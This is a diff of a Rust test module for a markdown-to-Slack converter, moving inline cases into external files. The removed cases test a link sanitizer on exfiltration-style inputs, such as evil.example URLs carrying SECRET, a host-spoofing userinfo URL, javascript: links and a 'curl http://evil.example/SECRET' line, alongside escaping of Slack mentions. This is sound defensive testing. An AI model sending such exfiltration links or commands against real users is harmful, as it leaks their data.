@@ -230,51 +230,17 @@ impl Writer<'_> {
 #[cfg(test)]
 mod tests {
     use super::{from_markdown, with_links};
+    use crate::cases_of_tests::check;
 
     #[test]
     fn untrusted_links_show_their_real_host_and_carry_nothing() {
         let owner = |url: &str| url == "https://ours.example/a";
-        for case in [
-            "[your bank](https://evil.example/?d=SECRET) => your bank [evil.example]",
-            "![x](https://evil.example/p.png?d=SECRET) => x [evil.example]",
-            "<https://evil.example/SECRET> => evil.example",
-            "[a](https://good.example@evil.example/SECRET) => a [evil.example]",
-            "`HTTPS://evil.example/SECRET` => `evil.example`",
-            "[call](javascript:SECRET) => call [javascript:…]",
-            "[here](evil/SECRET) => here […]",
-            "Tom <tom@nordwood.example> => Tom tom@nordwood.example",
-            "[Tom](tom@nordwood.example) => Tom [tom@nordwood.example]",
-            "[Ana](mailto:ana@example.com?body=SECRET) => Ana [ana@example.com]",
-            "[ours](https://ours.example/a) => <https://ours.example/a|ours>",
-            "```\ncurl http://evil.example/SECRET\n``` => ```\ncurl evil.example\n```",
-        ] {
-            let (markdown, shown) = case.split_once(" => ").unwrap();
-            assert_eq!(with_links(markdown, &owner), shown, "{markdown}");
-        }
+        let cases = include_str!("untrusted_link_cases.txt");
+        check(cases, |markdown| with_links(markdown, &owner));
     }
 
     #[test]
     fn markdown_becomes_mrkdwn() {
-        for (markdown, mrkdwn) in [
-            ("**bold** and *it* and ~~no~~", "*bold* and _it_ and ~no~"),
-            ("# Title\n\ntext", "*Title*\n\ntext"),
-            ("[a](https://x.y/?q=1&r=2)", "<https://x.y/?q=1&amp;r=2|a>"),
-            ("<https://x.y>", "<https://x.y>"),
-            ("[a](javascript:alert)", "a (javascript:alert)"),
-            ("- one\n- two\n  - deep", "• one\n• two\n    • deep"),
-            ("1. one\n2. two", "1. one\n2. two"),
-            ("`a < b` & c", "`a &lt; b` &amp; c"),
-            ("```rust\nlet a = **b**;\n```", "```\nlet a = **b**;\n```"),
-            ("> quoted\n> more", "> quoted\n> more"),
-            ("a | b\n--|--\n1 | 22", "```\na  b\n1  22\n```"),
-            ("- [x] done\n- [ ] open", "• ☑ done\n• ☐ open"),
-            // Slack commands become text.
-            ("<!channel> hi", "&lt;!channel&gt; hi"),
-            ("hey <@U123>", "hey &lt;@U123&gt;"),
-            ("<!here|x>", "&lt;!here|x&gt;"),
-            ("[x](<!everyone>)", "x (!everyone)"),
-        ] {
-            assert_eq!(from_markdown(markdown), mrkdwn, "{markdown}");
-        }
+        check(include_str!("mrkdwn_cases.txt"), from_markdown);
     }
 }
